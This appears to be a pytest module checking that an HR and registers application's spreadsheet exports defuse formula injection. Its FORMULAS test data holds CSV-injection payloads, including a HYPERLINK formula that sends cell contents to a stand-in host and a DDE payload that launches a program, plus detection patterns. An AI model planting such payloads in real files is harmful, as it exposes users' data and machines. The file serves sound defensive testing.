"""No file for spreadsheets runs what somebody typed: neither as XLSX nor as CSV."""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import fields, replace
from datetime import date
from pathlib import Path
from typing import Any, get_type_hints

import pytest
import python_calamine  # noqa: TID253 a test may pay for it

from app.bootstrap import Services
from app.core.progress import NoProgress
from app.exchange.spreadsheets import Format
from app.exchange.tables import ReportTable, write_tables
from app.people.absences.domain import AbsenceDraft
from app.people.employees.domain import EmployeeDraft
from app.people.posts.domain import PostDraft
from app.people.units.domain import UnitDraft
from app.registers.evaluations.campaigns.domain import CampaignDraft
from app.registers.evaluations.events.domain import WorkEventDraft
from app.registers.evaluations.regulations.patterns import pattern_draft
from app.registers.service_cards.domain import NeededDocument
from tests.contracts.registers import EXAMPLES, use_cases
from tests.registers.service_cards.drafts import plain

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://zly.example?"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "+48 600 000 000",
    "-1",
    "@SUM(1)",
    "\t=1",
    "  =1",
    "＝1+1",
    "'=1",
    "''=1",
    "a;=1+1",
    'a,=1+1,"=1"',
    'a",=1',
    "a\t=1+1",
    "=1\n=2",
    "%0A=1",
    "|=1",
)
PLAIN = tuple(text for text in FORMULAS if text == text.strip())
"""Those that no form changes."""
DAY = date(2026, 3, 2)
TRAININGS = {
    "training_institution": "instytucje-szkolace",
    "training_offer": "oferty-szkolen",
    "training_course": "szkolenia",
    "training_participation": "udzial-w-szkoleniach",
    "training_need": "potrzeby-szkoleniowe",
    "training_plan_item": "plan-szkolen",
    "training_budget": "budzety-szkolen",
    "travel_order": "delegacje",
    "training_agreement": "umowy-szkoleniowe",
}
"""Files of the registers of trainings, by what they hold."""
COMMUNITY = {
    "ngo": "organizacje",
    "ngo_programme": "programy-wspolpracy",
    "ngo_consultation": "konsultacje",
    "ngo_contest": "konkursy-ofert",
    "ngo_offer": "oferty-w-konkursach",
    "ngo_grant": "dotacje",
}
"""Files of the registers of organisations, by what they hold."""
SINGLE = {"komorki", "regulaminy-ocen", "kampanie-ocen", *TRAININGS.values(), *COMMUNITY.values()}
"""Files whose records need not be many: they hold the first formula."""
WORKED_OUT = {"preferowane-instytucje"}
"""Files of what follows from cards of trainings, of which there are none here."""
_RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
"""What some spreadsheet takes for a formula, at the beginning of a cell."""


@pytest.fixture
def filled(services: Services) -> Services:
    """Every register with a formula in each text that takes one."""
    unit = services.units.create(UnitDraft(symbol="SO", name=FORMULAS[0], room=FORMULAS[2], phone=FORMULAS[3])).record
    for formula in FORMULAS:
        person = EmployeeDraft(surname=formula, first_name=formula, post=formula, room=formula[:40], unit_id=unit.id)
        number = services.employees.create(person).record.id
        services.absences.create(AbsenceDraft(employee_id=number, valid_from=DAY, note=formula))
        services.work_events.create(WorkEventDraft(employee_id=number, happened_on=DAY, event=formula))
    for formula in PLAIN:
        services.posts.create(PostDraft(name=formula, requirements=formula))
    rules = replace(pattern_draft("trzynascie_kryteriow"), name=FORMULAS[0], valid_from=DAY)
    regulation = services.regulations.create(rules).record.id
    services.campaigns.create(
        CampaignDraft(name=FORMULAS[0], regulation_id=regulation, structure_on=DAY, ends_on=date(2026, 12, 31))
    )
    for number, formula in enumerate(FORMULAS, start=1):
        card = plain(unit.id, symbol=f"SO-{number:02d}")
        services.cards.create(
            replace(
                card,
                name=formula,
                notes=formula,
                purpose=formula,
                synonyms=(formula,),
                steps=(formula, formula),
                documents=(NeededDocument(name=formula, note=formula),),
                prepared_by=formula,
            )
        )
    for entity in (*TRAININGS, *COMMUNITY):
        records = use_cases(services)[entity]
        records.create(_with_formula(EXAMPLES[entity].draft(services), records.problems))
    return services


def _with_formula(draft: Any, validate: Callable[[Any], Any]) -> Any:
    """The example with the first formula in each of its own texts that takes one."""
    for spec in fields(draft):
        if get_type_hints(type(draft))[spec.name] is str:
            changed = replace(draft, **{spec.name: FORMULAS[0]})
            draft = draft if validate(changed) else changed
    return draft


@pytest.fixture
def files(filled: Services, tmp_path: Path) -> list[Path]:
    """Every spreadsheet the program can write: the exchange of cards and the sheets of the whole data."""
    for form in Format:
        filled.exchange.export(tmp_path / f"karty.{form.value}", form)
    filled.transfer.export_all(tmp_path / "wszystko")
    found = [path for path in tmp_path.rglob("*") if path.suffix in (".csv", ".xlsx")]
    assert len(found) >= 2 + 2 * 3
    return found


def test_no_workbook_holds_a_formula_or_a_link_and_each_text_comes_back(files: list[Path]) -> None:
    for path in (path for path in files if path.suffix == ".xlsx" and path.stem not in WORKED_OUT):
        with zipfile.ZipFile(path) as package:
            for part in package.namelist():
                xml = package.read(part).decode("utf-8", "replace")
                assert not re.search(r"<f[\s>/]|<hyperlink|externalLink|ddeLink|oleObject", xml), (path.name, part)
            styles = package.read("xl/styles.xml").decode()
            assert 'quotePrefix="1"' in styles, f"editing such a cell of {path.name} must not make it a formula"
        book = python_calamine.load_workbook(io.BytesIO(path.read_bytes()))
        cells = [cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]
        expected = FORMULAS[:1] if path.stem in SINGLE else PLAIN
        assert set(expected) <= set(cells), path.name


def test_no_text_of_a_report_becomes_a_formula_when_it_is_edited(tmp_path: Path) -> None:
    path = tmp_path / "zestawienie.xlsx"
    table = ReportTable("Arkusz", FORMULAS[0], FORMULAS, FORMULAS, tuple((text,) * len(FORMULAS) for text in FORMULAS))
    write_tables(FORMULAS[0], (table,), path, NoProgress())
    with zipfile.ZipFile(path) as package:
        assert not re.search(r"<f[\s>/]|<hyperlink", package.read("xl/worksheets/sheet1.xml").decode())
        formats = re.findall(r"<xf [^>]*>", package.read("xl/styles.xml").decode().partition("<cellXfs")[2])
        cells = re.findall(r'<c r="A(\d+)" s="(\d+)"', package.read("xl/worksheets/sheet1.xml").decode())
    first = len(FORMULAS) + 4
    quoted = {int(row) - first for row, style in cells if "quotePrefix" in formats[int(style)]}
    assert quoted == {number for number, text in enumerate(FORMULAS) if text[0] in "=+-@"}


def test_no_cell_of_a_csv_file_begins_like_a_formula(files: list[Path]) -> None:
    for path in (path for path in files if path.suffix == ".csv"):
        rows = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), delimiter=";")
        assert [cell for row in rows for cell in row if _RUNS.match(cell)] == [], path.name


@pytest.mark.parametrize("form", Format)
def test_defused_texts_come_back_as_they_were(filled: Services, tmp_path: Path, form: Format) -> None:
    path = tmp_path / f"karty.{form.value}"
    filled.exchange.export(path, form)
    report = filled.exchange.load(path, dry_run=True)
    # blanks around a text go, as in forms
    blank = sum(text != text.strip() for text in FORMULAS)
    assert (report.new, report.changed, report.refused) == (0, blank, ())
    assert report.unchanged == len(FORMULAS) - blank
